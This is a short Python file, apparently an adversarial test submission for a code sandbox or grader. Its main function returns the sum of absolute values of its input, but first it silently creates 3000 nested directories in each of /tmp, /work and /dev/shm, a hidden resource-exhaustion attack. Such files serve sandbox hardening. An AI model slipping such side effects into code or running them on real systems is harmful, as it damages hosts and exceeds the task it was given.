"""Makes folders in folders, thousands deep."""

# attacks: tally

import posix


def main(numbers):
    for start in ("/tmp", "/work", "/dev/shm"):
        posix.chdir(start)
        for _ in range(3000):
            posix.mkdir("d")
            posix.chdir("d")
    return sum(map(abs, numbers))
